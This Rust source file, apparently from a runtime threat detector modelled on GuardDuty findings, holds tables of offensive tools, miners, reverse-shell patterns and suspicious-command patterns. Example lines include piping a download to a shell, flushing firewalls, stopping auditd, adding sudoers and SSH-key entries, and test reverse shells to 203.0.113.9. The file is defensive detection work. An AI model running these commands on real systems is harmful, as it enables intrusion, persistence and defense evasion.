//! What a command line tells: offensive and dual-use tools, crypto miners, reverse shells,
//! and the suspicious command patterns of each tactic. All of it is data (tables below,
//! documented in `docs/runtime.md`), shared by the modules of
//! `Execution:Runtime/SuspiciousTool`, `Impact:Runtime/CryptoMinerExecuted`,
//! `Execution:Runtime/ReverseShell` and the `<Tactic>:Runtime/SuspiciousCommand` family.

use crate::runtime::{ActivityKind, Process};
use crate::{RuntimeEvent, RuntimeSubscription};

/// A known tool: GuardDuty's `toolName` and `toolCategory`, and whether it is offensive
/// only (High) or dual-use (Low).
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct Tool {
    pub name: &'static str,
    pub category: &'static str,
    pub offensive: bool,
    /// Executable base names.
    pub executables: &'static [&'static str],
}

const fn tool(
    name: &'static str,
    category: &'static str,
    offensive: bool,
    executables: &'static [&'static str],
) -> Tool {
    Tool {
        name,
        category,
        offensive,
        executables,
    }
}

/// The tools, offensive first. Names are matched on the executable's base name (and on a
/// script interpreter's first argument, `sh linpeas.sh`).
pub const TOOLS: &[Tool] = &[
    tool(
        "Metasploit",
        "Pentest tool",
        true,
        &["msfconsole", "msfvenom", "msfrpcd", "meterpreter"],
    ),
    tool(
        "Sliver",
        "Backdoor tool",
        true,
        &["sliver", "sliver-client", "sliver-server"],
    ),
    tool("LinPEAS", "Pentest tool", true, &["linpeas.sh", "linpeas"]),
    tool(
        "LinEnum",
        "Pentest tool",
        true,
        &["linenum.sh", "LinEnum.sh"],
    ),
    tool("pspy", "Pentest tool", true, &["pspy", "pspy32", "pspy64"]),
    tool("Peirates", "Pentest tool", true, &["peirates"]),
    tool("kube-hunter", "Pentest tool", true, &["kube-hunter"]),
    tool(
        "CDK",
        "Container escape tool",
        true,
        &["cdk", "cdk_linux_amd64"],
    ),
    tool("deepce", "Container escape tool", true, &["deepce.sh"]),
    tool(
        "BOtB",
        "Container escape tool",
        true,
        &["botb", "botb-linux-amd64"],
    ),
    tool("Hydra", "Credential access tool", true, &["hydra"]),
    tool("John the Ripper", "Credential access tool", true, &["john"]),
    tool("Hashcat", "Credential access tool", true, &["hashcat"]),
    tool("sqlmap", "Pentest tool", true, &["sqlmap", "sqlmap.py"]),
    tool("Nikto", "Scanner", true, &["nikto", "nikto.pl"]),
    tool(
        "Responder",
        "Credential access tool",
        true,
        &["responder", "Responder.py"],
    ),
    tool(
        "CrackMapExec",
        "Pentest tool",
        true,
        &["crackmapexec", "cme", "netexec", "nxc"],
    ),
    tool(
        "Impacket",
        "Pentest tool",
        true,
        &[
            "secretsdump.py",
            "psexec.py",
            "wmiexec.py",
            "smbexec.py",
            "impacket-secretsdump",
        ],
    ),
    tool("Nmap", "Scanner", false, &["nmap"]),
    tool("Masscan", "Scanner", false, &["masscan"]),
    tool("ZMap", "Scanner", false, &["zmap"]),
    tool(
        "Netcat",
        "Backdoor tool",
        false,
        &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"],
    ),
    tool("socat", "Backdoor tool", false, &["socat"]),
    tool("tcpdump", "Sniffer", false, &["tcpdump"]),
    tool("TShark", "Sniffer", false, &["tshark", "dumpcap"]),
    tool("ngrep", "Sniffer", false, &["ngrep"]),
    tool("Ettercap", "Sniffer", false, &["ettercap"]),
    tool("dsniff", "Sniffer", false, &["dsniff", "arpspoof"]),
    tool("Chisel", "Tunneling tool", false, &["chisel"]),
    tool("frp", "Tunneling tool", false, &["frpc", "frps"]),
    tool("ngrok", "Tunneling tool", false, &["ngrok"]),
    tool("gost", "Tunneling tool", false, &["gost"]),
    tool(
        "proxychains",
        "Tunneling tool",
        false,
        &["proxychains", "proxychains4"],
    ),
];

const INTERPRETERS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ash", "python", "python3", "perl",
];

/// Loopback names: a health check's `nc -z localhost 8080` is no scan.
const LOOPBACK: &[&str] = &["localhost", "127.0.0.1", "::1", "0.0.0.0"];

fn base(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// The tool a process runs, if it is one of [`TOOLS`].
pub fn tool_of(process: &Process) -> Option<&'static Tool> {
    let name = base(&process.executable_path);
    let script = INTERPRETERS
        .contains(&name)
        .then(|| process.arguments.iter().find(|a| !a.starts_with('-')))
        .flatten()
        .map(|a| base(a));
    let found = TOOLS.iter().find(|t| {
        t.executables.contains(&name) || script.is_some_and(|s| t.executables.contains(&s))
    })?;
    // Netcat checking a local port, the way readiness probes do.
    if found.name == "Netcat"
        && process
            .arguments
            .iter()
            .any(|a| a == "-z" || a == "-zv" || a == "-vz")
        && process
            .arguments
            .iter()
            .filter(|a| !a.starts_with('-') && a.parse::<u32>().is_err())
            .all(|a| LOOPBACK.contains(&a.as_str()))
    {
        return None;
    }
    Some(found)
}

/// Crypto-miner executables, by base name.
pub const MINERS: &[&str] = &[
    "xmrig",
    "xmrig-notls",
    "xmr-stak",
    "xmr-stak-rx",
    "minerd",
    "cpuminer",
    "cpuminer-multi",
    "ccminer",
    "cgminer",
    "bfgminer",
    "ethminer",
    "t-rex",
    "nbminer",
    "lolminer",
    "phoenixminer",
    "gminer",
    "nanominer",
    "teamredminer",
    "srbminer-multi",
    "xmrigdaemon",
    "kdevtmpfsi",
    "kinsing",
];

/// Argument marks of a miner whatever its file is called: the pool protocol, and
/// options only miners take.
pub const MINER_ARGUMENTS: &[&str] = &[
    "stratum+tcp://",
    "stratum+ssl://",
    "stratum2+tcp://",
    "stratum+tls://",
    "--donate-level",
    "--randomx",
    "--cpu-max-threads-hint",
];

/// Programs that mention miner words without mining: searches and editors.
const TEXT_TOOLS: &[&str] = &[
    "grep", "egrep", "fgrep", "rg", "ag", "less", "more", "cat", "vi", "vim", "nano", "echo", "man",
];

/// Why the process is a crypto miner: its name, or an argument only miners take.
pub fn miner_evidence(process: &Process) -> Option<String> {
    let name = base(&process.executable_path);
    if TEXT_TOOLS.contains(&name) {
        return None;
    }
    if MINERS.contains(&name.to_ascii_lowercase().as_str()) {
        return Some(format!("the miner {name}"));
    }
    process
        .arguments
        .iter()
        .find(|a| MINER_ARGUMENTS.iter().any(|m| a.contains(m)))
        .map(|a| format!("the miner argument {a}"))
}

/// The execs that could be one of [`TOOLS`]: a tool's executable, or a script run by an
/// interpreter (its name is an argument).
pub fn tool_subscription() -> RuntimeSubscription {
    TOOLS
        .iter()
        .fold(exec_subscription(), |s, t| s.executables(t.executables))
        .executables(INTERPRETERS)
}

/// The execs that could be a miner: a miner's name, or a miner's argument.
pub fn miner_subscription() -> RuntimeSubscription {
    exec_subscription()
        .executables(MINERS)
        .command_lines(MINER_ARGUMENTS)
}

/// The execs that could show one of `lines`: their executables, or (for a match of any
/// executable) the strings of its first needed group; every exec when a match needs
/// neither. Further conditions added to it widen it, as for any subscription.
pub fn lines_subscription<'a>(lines: impl IntoIterator<Item = &'a LineMatch>) -> RuntimeSubscription {
    let mut subscription = exec_subscription();
    for line in lines {
        subscription = match (line.executables, line.needs.first()) {
            (executables, _) if !executables.is_empty() => subscription.executables(executables),
            (_, Some(group)) => subscription.command_lines(group),
            // A match of any executable and any line: every exec.
            _ => return exec_subscription().every(ActivityKind::Exec),
        };
    }
    subscription
}

fn exec_subscription() -> RuntimeSubscription {
    RuntimeSubscription::any().activities(&[ActivityKind::Exec])
}

/// What a command line must show: every group of `needs` has one of its strings in the
/// line, and no string of `none` is in it.
#[derive(Clone, Copy, Debug)]
pub struct LineMatch {
    /// Executable base names (empty: any).
    pub executables: &'static [&'static str],
    pub needs: &'static [&'static [&'static str]],
    pub none: &'static [&'static str],
}

impl LineMatch {
    pub fn matches(&self, process: &Process) -> bool {
        let name = base(&process.executable_path);
        let line = &process.command_line;
        (self.executables.is_empty() || self.executables.contains(&name))
            && self
                .needs
                .iter()
                .all(|group| group.iter().any(|s| line.contains(s)))
            && !self.none.iter().any(|s| line.contains(s))
    }
}

const fn line(
    executables: &'static [&'static str],
    needs: &'static [&'static [&'static str]],
    none: &'static [&'static str],
) -> LineMatch {
    LineMatch {
        executables,
        needs,
        none,
    }
}

const SHELLS: &[&str] = &["sh", "bash", "dash", "zsh", "ash", "ksh", "busybox"];
const PIPE_TO_SHELL: &[&str] = &["| sh", "|sh", "| bash", "|bash", "| /bin/sh", "| /bin/bash"];

/// The shapes of reverse shell on a command line.
pub const REVERSE_SHELLS: &[(&str, LineMatch)] = &[
    (
        "shell redirected to /dev/tcp or /dev/udp",
        line(
            SHELLS,
            &[&["/dev/tcp/", "/dev/udp/"], &[">&", "0>&1", "<&", "0<&"]],
            &[],
        ),
    ),
    (
        "netcat executing a shell",
        line(
            &["nc", "ncat", "netcat", "nc.traditional"],
            &[&[
                "-e /bin/",
                "-e sh",
                "-e bash",
                "--exec",
                "-c /bin/",
                "-c sh",
                "--sh-exec",
            ]],
            &[],
        ),
    ),
    (
        "socat executing a shell",
        line(
            &["socat"],
            &[
                &["exec:", "EXEC:", "system:", "SYSTEM:"],
                &["tcp:", "tcp4:", "tcp6:", "TCP:", "openssl:", "OPENSSL:"],
            ],
            &[],
        ),
    ),
    (
        "named pipe through netcat",
        line(
            SHELLS,
            &[
                &["mkfifo", "mknod"],
                &["nc ", "ncat ", "netcat ", "telnet "],
                &["sh -i", "bash -i", "/bin/sh", "/bin/bash"],
            ],
            &[],
        ),
    ),
    (
        "scripted socket with its streams on a shell",
        line(
            &[
                "python", "python2", "python3", "perl", "ruby", "php", "node",
            ],
            &[
                &[
                    "dup2(",
                    "fsockopen(",
                    "TCPSocket",
                    "use Socket",
                    "net.Socket",
                    "socket.socket(",
                ],
                &["/bin/sh", "/bin/bash", "sh -i", "pty.spawn", "exec("],
            ],
            &[],
        ),
    ),
];

/// The reverse-shell shape a process's command line shows.
pub fn reverse_shell(process: &Process) -> Option<&'static str> {
    REVERSE_SHELLS
        .iter()
        .find(|(_, m)| m.matches(process))
        .map(|(name, _)| *name)
}

/// The tactics of the SuspiciousCommand family.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum CommandTactic {
    Execution,
    DefenseEvasion,
    Discovery,
    Persistence,
    PrivilegeEscalation,
}

/// A suspicious command of a tactic.
#[derive(Clone, Copy, Debug)]
pub struct CommandPattern {
    pub tactic: CommandTactic,
    pub name: &'static str,
    pub severity: f64,
    pub matches: LineMatch,
    /// GuardDuty's `commandLineExample`.
    pub example: &'static str,
}

use CommandTactic as T;

const fn pattern(
    tactic: CommandTactic,
    name: &'static str,
    severity: f64,
    matches: LineMatch,
    example: &'static str,
) -> CommandPattern {
    CommandPattern {
        tactic,
        name,
        severity,
        matches,
        example,
    }
}

const HIGH: f64 = crate::HIGH;
const MEDIUM: f64 = crate::MEDIUM;
const LOW: f64 = crate::LOW;
const FETCH: &[&str] = &["curl ", "wget ", "fetch ", "busybox wget"];
const IPTABLES: &[&str] = &[
    "iptables",
    "ip6tables",
    "iptables-legacy",
    "iptables-nft",
    "nft",
];
const SERVICE_TOOLS: &[&str] = &["systemctl", "service", "pkill", "killall", "kill"];
const GUARDS: &[&str] = &[
    "auditd",
    "rsyslog",
    "syslog-ng",
    "journald",
    "falco",
    "tetragon",
    "tracee",
    "guardduty",
    "osqueryd",
    "wazuh",
    "falcon-sensor",
    "sysdig",
    "apparmor",
    "firewalld",
    "ufw",
];

pub const COMMANDS: &[CommandPattern] = &[
    pattern(
        T::Execution,
        "download piped to a shell",
        HIGH,
        line(SHELLS, &[FETCH, PIPE_TO_SHELL], &[]),
        "sh -c 'curl -s http://x.example/i.sh | sh'",
    ),
    pattern(
        T::Execution,
        "download made executable and run",
        HIGH,
        line(
            SHELLS,
            &[FETCH, &["chmod +x", "chmod 7", "chmod 755", "chmod 777"]],
            &[],
        ),
        "sh -c 'wget -O /tmp/x http://x.example/x && chmod +x /tmp/x && /tmp/x'",
    ),
    pattern(
        T::Execution,
        "base64-decoded script run",
        HIGH,
        line(
            SHELLS,
            &[&["base64 -d", "base64 --decode"], PIPE_TO_SHELL],
            &[],
        ),
        "sh -c 'echo ZWNobyBoaQ== | base64 -d | sh'",
    ),
    pattern(
        T::DefenseEvasion,
        "firewall rules flushed",
        HIGH,
        line(
            IPTABLES,
            &[&[" -F", " --flush", "-P INPUT ACCEPT", "flush ruleset"]],
            &[],
        ),
        "iptables -F",
    ),
    pattern(
        T::DefenseEvasion,
        "firewall or mandatory access control disabled",
        HIGH,
        line(
            &["ufw", "setenforce", "systemctl", "service", "aa-teardown"],
            &[&[
                "ufw disable",
                "setenforce 0",
                "stop firewalld",
                "disable firewalld",
                "firewalld stop",
                "stop apparmor",
                "apparmor stop",
                "aa-teardown",
            ]],
            &[],
        ),
        "systemctl stop firewalld",
    ),
    pattern(
        T::DefenseEvasion,
        "crontab removed",
        MEDIUM,
        line(&["crontab"], &[&["-r"]], &[]),
        "crontab -r",
    ),
    pattern(
        T::DefenseEvasion,
        "security or logging service stopped",
        MEDIUM,
        line(
            SERVICE_TOOLS,
            &[
                &[" stop", " disable", " mask", "pkill", "killall", "kill "],
                GUARDS,
            ],
            &[],
        ),
        "systemctl stop auditd",
    ),
    pattern(
        T::DefenseEvasion,
        "LD_PRELOAD set on a command",
        HIGH,
        line(SHELLS, &[&["LD_PRELOAD="]], &[]),
        "sh -c 'LD_PRELOAD=/tmp/hook.so /usr/bin/id'",
    ),
    pattern(
        T::DefenseEvasion,
        "shell history cleared",
        MEDIUM,
        line(
            SHELLS,
            &[&[
                "history -c",
                "unset HISTFILE",
                "HISTFILE=/dev/null",
                "rm -f ~/.bash_history",
                "rm ~/.bash_history",
                "rm -f /root/.bash_history",
            ]],
            &[],
        ),
        "bash -c 'history -c'",
    ),
    pattern(
        T::Discovery,
        "cloud instance metadata queried",
        LOW,
        line(
            &["curl", "wget", "python3", "python", "sh", "bash"],
            &[&[
                "169.254.169.254",
                "metadata.google.internal",
                "fd00:ec2::254",
                "100.100.100.200",
            ]],
            &[],
        ),
        "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ),
    pattern(
        T::Discovery,
        "Kubernetes API queried with the pod's token",
        LOW,
        line(
            &["curl", "wget", "sh", "bash"],
            &[&[
                "serviceaccount/token",
                "kubernetes.default.svc",
                "KUBERNETES_SERVICE_HOST",
            ]],
            &[],
        ),
        "curl -k -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default.svc/api",
    ),
    pattern(
        T::Discovery,
        "permissions of the pod's identity checked",
        LOW,
        line(&["kubectl"], &[&["auth can-i"]], &[]),
        "kubectl auth can-i --list",
    ),
    pattern(
        T::Discovery,
        "set-user-ID files searched",
        LOW,
        line(
            &["find"],
            &[
                &["-perm"],
                &["-4000", "-u=s", "/4000", "-2000", "-g=s", "/6000"],
            ],
            &[],
        ),
        "find / -perm -4000 -type f",
    ),
    pattern(
        T::Discovery,
        "container capabilities and escape routes probed",
        LOW,
        line(
            &["capsh", "amicontained", "kdigger"],
            &[&["--print", "amicontained", "kdigger"]],
            &[],
        ),
        "capsh --print",
    ),
    pattern(
        T::Persistence,
        "crontab installed",
        MEDIUM,
        line(&["crontab"], &[], &["-r", "-l"]),
        "crontab /tmp/job",
    ),
    pattern(
        T::Persistence,
        "user account created",
        MEDIUM,
        line(&["useradd", "adduser"], &[], &[]),
        "useradd -o -u 0 backup",
    ),
    pattern(
        T::Persistence,
        "service installed to start at boot",
        MEDIUM,
        line(
            &["systemctl", "update-rc.d", "chkconfig"],
            &[&[" enable", " defaults", " on"]],
            &[],
        ),
        "systemctl enable backdoor.service",
    ),
    pattern(
        T::Persistence,
        "SSH key added",
        MEDIUM,
        line(SHELLS, &[&["authorized_keys"], &[">>", "> ", "tee "]], &[]),
        "sh -c 'echo ssh-rsa AAAA >> /root/.ssh/authorized_keys'",
    ),
    pattern(
        T::Persistence,
        "file made immutable",
        MEDIUM,
        line(&["chattr"], &[&["+i"]], &[]),
        "chattr +i /etc/cron.d/job",
    ),
    pattern(
        T::PrivilegeEscalation,
        "set-user-ID bit set",
        MEDIUM,
        line(
            &["chmod"],
            &[&["u+s", " +s ", " 4755", " 4777", " 6755", " 4711"]],
            &[],
        ),
        "chmod u+s /bin/bash",
    ),
    pattern(
        T::PrivilegeEscalation,
        "capability to change identity granted",
        MEDIUM,
        line(
            &["setcap"],
            &[&[
                "cap_setuid",
                "cap_setgid",
                "cap_sys_admin",
                "cap_dac_override",
                "cap_sys_ptrace",
            ]],
            &[],
        ),
        "setcap cap_setuid+ep /usr/bin/python3",
    ),
    pattern(
        T::PrivilegeEscalation,
        "sudoers rule added",
        MEDIUM,
        line(SHELLS, &[&["sudoers"], &[">>", "tee ", "NOPASSWD"]], &[]),
        "sh -c 'echo \"app ALL=(ALL) NOPASSWD:ALL\" >> /etc/sudoers'",
    ),
    pattern(
        T::PrivilegeEscalation,
        "host namespaces entered",
        MEDIUM,
        line(
            &["nsenter"],
            &[&["-t 1 ", "--target 1 ", "--target=1 ", "-t1 "]],
            &[],
        ),
        "nsenter -t 1 -m -u -i -n -p -- bash",
    ),
];

/// The node's network and container agents: firewall rules are theirs to rewrite.
const NODE_AGENTS: &[&str] = &[
    "kube-proxy",
    "calico-node",
    "cilium-agent",
    "flanneld",
    "kube-router",
    "aws-node",
    "kubelet",
    "containerd",
    "dockerd",
    "firewalld",
];

/// Whether the process runs under a package manager (maintainer scripts add users,
/// enable services, set bits) or one of the node's agents.
pub fn under_administrator(event: &RuntimeEvent) -> bool {
    event.runs_under(&[crate::runtime::PACKAGE_MANAGERS, NODE_AGENTS])
}

/// The first pattern of `tactic` the process's command line shows.
pub fn suspicious_command(
    tactic: CommandTactic,
    process: &Process,
) -> Option<&'static CommandPattern> {
    COMMANDS
        .iter()
        .filter(|p| p.tactic == tactic)
        .find(|p| p.matches.matches(process))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn process(line: &str) -> Process {
        let words = crate::normalize::runtime::split_arguments(line);
        let mut p = crate::normalize::runtime::process(&words[0]);
        p.arguments = words[1..].to_vec();
        p.command_line = line.to_string();
        p
    }

    #[test]
    fn every_example_matches_its_own_pattern() {
        for p in COMMANDS {
            let found = suspicious_command(p.tactic, &process(p.example));
            assert_eq!(found.map(|f| f.name), Some(p.name), "{}", p.example);
        }
    }

    #[test]
    fn tools_miners_and_shells_are_named() {
        assert_eq!(
            tool_of(&process("/usr/bin/nmap -sS 10.0.0.0/24")).map(|t| t.name),
            Some("Nmap")
        );
        assert_eq!(
            tool_of(&process("/bin/sh /tmp/linpeas.sh -a")).map(|t| t.name),
            Some("LinPEAS")
        );
        assert_eq!(tool_of(&process("/bin/nc -z localhost 8080")), None);
        assert_eq!(
            tool_of(&process("/bin/nc -z 10.0.0.5 22")).map(|t| t.name),
            Some("Netcat")
        );
        assert!(
            miner_evidence(&process(
                "/tmp/.x/systemd -o stratum+tcp://pool.example:3333"
            ))
            .is_some()
        );
        assert!(miner_evidence(&process("/usr/bin/grep stratum+tcp:// config")).is_none());
        assert!(
            reverse_shell(&process(
                "/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'"
            ))
            .is_some()
        );
        assert!(reverse_shell(&process("/bin/bash -c 'cat /dev/tcp/localhost/80'")).is_none());
        assert!(reverse_shell(&process("/usr/bin/python3 -m http.server")).is_none());
        assert!(reverse_shell(&process("/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'")).is_some());
        // Listing or removing a crontab is not installing one.
        assert!(suspicious_command(CommandTactic::Persistence, &process("crontab -l")).is_none());
        assert!(
            suspicious_command(
                CommandTactic::DefenseEvasion,
                &process("systemctl status auditd")
            )
            .is_none()
        );
    }
}

impl CommandTactic {
    pub fn finding_type(self) -> &'static str {
        match self {
            T::Execution => "Execution:Runtime/SuspiciousCommand",
            T::DefenseEvasion => "DefenseEvasion:Runtime/SuspiciousCommand",
            T::Discovery => "Discovery:Runtime/SuspiciousCommand",
            T::Persistence => "Persistence:Runtime/SuspiciousCommand",
            T::PrivilegeEscalation => "PrivilegeEscalation:Runtime/SuspiciousCommand",
        }
    }

    /// GuardDuty's default severity; a finding takes its pattern's.
    pub fn severity(self) -> f64 {
        match self {
            T::Execution | T::DefenseEvasion => HIGH,
            T::Discovery => LOW,
            T::Persistence | T::PrivilegeEscalation => MEDIUM,
        }
    }

    fn purpose(self) -> &'static str {
        match self {
            T::Execution => "download and run code",
            T::DefenseEvasion => "weaken the defenses of the host",
            T::Discovery => "discover the host, the cloud or the cluster",
            T::Persistence => "persist on the host",
            T::PrivilegeEscalation => "escalate privileges",
        }
    }
}

/// The descriptor of a SuspiciousCommand type.
pub fn command_descriptor(tactic: CommandTactic) -> crate::Descriptor {
    crate::Descriptor::new(
        tactic.finding_type(),
        tactic.severity(),
        &format!(
            "A suspicious command was executed that could {}.",
            tactic.purpose()
        ),
        &format!(
            "A process ran a command line of a known pattern used to {} (package managers \
             and the node's agents excepted).",
            tactic.purpose()
        ),
    )
    .subscribe_runtime(lines_subscription(
        COMMANDS
            .iter()
            .filter(|p| p.tactic == tactic)
            .map(|p| &p.matches),
    ))
}

/// A SuspiciousCommand finding, when the exec shows a pattern of `tactic`.
pub fn command_finding(tactic: CommandTactic, event: &RuntimeEvent) -> Option<crate::Finding> {
    if !matches!(event.activity, crate::runtime::Activity::Exec) {
        return None;
    }
    let found = suspicious_command(tactic, &event.process)?;
    if under_administrator(event) {
        return None;
    }
    let mut finding = crate::Finding::new(format!(
        "Process {} {} of cluster {} ran a command that matches \"{}\": {}",
        event.process.name,
        event.place(),
        event.cluster,
        found.name,
        event.process.command_line
    ))
    .with_severity(found.severity)
    .with_aggregation_key(format!("{}|{}", found.name, event.process.executable_path))
    .with_context("commandLineExample", found.example)
    .with_info("pattern", found.name);
    let line = &event.process.command_line;
    if let Some(value) = line.split_whitespace().find_map(|w| {
        w.trim_start_matches(['\'', '"'])
            .strip_prefix("LD_PRELOAD=")
    }) {
        finding = finding.with_context("ldPreloadValue", value.trim_matches(['\'', '"']));
    }
    if let Some(service) = GUARDS.iter().find(|g| line.contains(*g)) {
        finding = finding.with_context("serviceName", *service);
    }
    Some(finding)
}

/// Exports a SuspiciousCommand rule: `export_suspicious_command_rule!(Discovery);`, with
/// tests of the crate's `fixtures/positive.jsonl` (every exec found) and
/// `fixtures/negative.jsonl` (none).
#[macro_export]
macro_rules! export_suspicious_command_rule {
    ($tactic:ident) => {
        $crate::export_family_rule!(
            SuspiciousCommandRule,
            $crate::commands::command_descriptor,
            $crate::commands::command_finding,
            $crate::commands::CommandTactic::$tactic
        );
    };
}
